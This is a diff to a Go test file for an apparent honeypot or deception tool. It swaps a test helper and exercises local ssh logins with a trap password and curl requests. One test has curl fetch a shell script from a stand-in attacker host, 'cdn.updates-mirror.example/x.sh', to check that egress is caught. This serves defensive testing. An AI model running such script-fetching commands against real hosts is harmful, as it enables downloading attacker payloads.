@@ -17,7 +17,7 @@ import (
 	"testing"
 	"time"
 
-	"go.cordon.dev/cordon/internal/deception/service/servicetest"
+	"go.cordon.dev/cordon/internal/testdebian"
 	"go.cordon.dev/cordon/internal/testport"
 )
 
@@ -61,7 +61,7 @@ func (p *snare) login(command string) string {
 	p.t.Helper()
 	ask := filepath.Join(p.dir, "ask")
 	mustDo(p.t, os.WriteFile(ask, []byte("#!/bin/sh\necho '"+trapPassword+"'\n"), 0o700))
-	cmd := exec.Command(servicetest.Program(p.t, "openssh-client", "ssh"), "-F", "none", "-p", p.ssh, "-o", "UserKnownHostsFile="+p.dir+"/known", "-o", "StrictHostKeyChecking=accept-new",
+	cmd := exec.Command(testdebian.Program(p.t, "openssh-client", "ssh"), "-F", "none", "-p", p.ssh, "-o", "UserKnownHostsFile="+p.dir+"/known", "-o", "StrictHostKeyChecking=accept-new",
 		"-o", "NumberOfPasswordPrompts=1", "-o", "IdentityFile=none", "-o", "IdentityAgent=none", "root@127.0.0.1", command)
 	cmd.Env = append(os.Environ(), "SSH_ASKPASS="+ask, "SSH_ASKPASS_REQUIRE=force", "HOME="+p.dir, "SSH_AUTH_SOCK=")
 	var out, log bytes.Buffer
@@ -75,7 +75,7 @@ func (p *snare) login(command string) string {
 // touch is a client of the decky that comes from an address of this machine.
 func (p *snare) touch(from string) {
 	p.t.Helper()
-	out, err := exec.Command(servicetest.Program(p.t, "curl", "curl"), "-s", "--interface", from, "http://127.0.0.1:"+p.http+"/").CombinedOutput()
+	out, err := exec.Command(testdebian.Program(p.t, "curl", "curl"), "-s", "--interface", from, "http://127.0.0.1:"+p.http+"/").CombinedOutput()
 	if err != nil {
 		p.t.Fatalf("curl: %v\n%s", err, out)
 	}
@@ -139,7 +139,7 @@ func TestAProgramWantsToReachAnAttackersHost(t *testing.T) {
 	p := newSnare(t)
 	const host = "cdn.updates-mirror.example"
 	curl := func() {
-		out, err := exec.Command(servicetest.Program(t, "curl", "curl"), "-s", "-x", "http://"+p.proxy, "http://"+host+"/x.sh").CombinedOutput()
+		out, err := exec.Command(testdebian.Program(t, "curl", "curl"), "-s", "-x", "http://"+p.proxy, "http://"+host+"/x.sh").CombinedOutput()
 		if err != nil || !strings.Contains(string(out), "egress") && !strings.Contains(string(out), host) {
 			t.Fatalf("curl: %v\n%s", err, out)
 		}
